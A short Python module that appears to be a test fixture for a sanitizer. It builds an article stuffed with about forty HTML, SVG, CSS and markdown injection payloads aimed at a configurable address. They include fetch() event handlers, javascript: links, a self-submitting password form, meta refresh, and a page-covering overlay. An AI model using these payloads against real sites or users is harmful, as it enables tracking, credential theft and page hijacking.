"""An article that tries to make its reader's browser fetch something, or to take the page over."""

from __future__ import annotations

WAYS = """
<img src="{at}/1">
<img srcset="{at}/2 2x" src="x">
<picture><source srcset="{at}/3"><img></picture>
<script src="{at}/4"></script>
<script>fetch("{at}/5")</script>
<img src=x onerror="fetch('{at}/6')">
<svg onload="fetch('{at}/7')"></svg>
<svg><image href="{at}/8"></image></svg>
<svg><use href="{at}/9#x"></use></svg>
<svg><style>@import url({at}/10);</style></svg>
<style>@import "{at}/11";</style>
<style>body{{background:url({at}/12)}}</style>
<div style="background:url({at}/13)">x</div>
<link rel="stylesheet" href="{at}/14">
<link rel="preload" as="image" href="{at}/15">
<link rel="prefetch" href="{at}/16"><link rel="dns-prefetch" href="{at}/17">
<video src="{at}/18" autoplay></video>
<video poster="{at}/19"></video>
<audio src="{at}/20" autoplay></audio>
<audio><source src="{at}/21"><track src="{at}/22"></audio>
<iframe src="{at}/23"></iframe>
<iframe srcdoc="<img src='{at}/24'>"></iframe>
<object data="{at}/25"></object>
<embed src="{at}/26">
<meta http-equiv="refresh" content="0;url={at}/27">
<base href="{at}/28">
<form action="{at}/29"><input name="password" type="password" autofocus onfocus="this.form.submit()"></form>
<input type="image" src="{at}/30">
<body background="{at}/31">
<table background="{at}/32"><tr><td>x</td></tr></table>
<a href="javascript:fetch('{at}/33')">click</a>
[click](javascript:fetch('{at}/34'))
![picture]({at}/35)
![reference][p]
[p]: {at}/36
<details open ontoggle="fetch('{at}/37')"><summary>x</summary></details>
<marquee onstart="fetch('{at}/38')">x</marquee>
${{fetch("{at}/39")}} {{{{fetch("{at}/40")}}}}
<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>
</blockquote></article></dialog><h1 id="taken">Taken over</h1>
"""


def text_of(address: str) -> str:
    """The article's text, aiming at this address."""
    ways = WAYS.format(at=address).strip()
    return f"The lighthouse keeper reported strange signals. {' '.join(ways.splitlines())}\n\n{ways}"
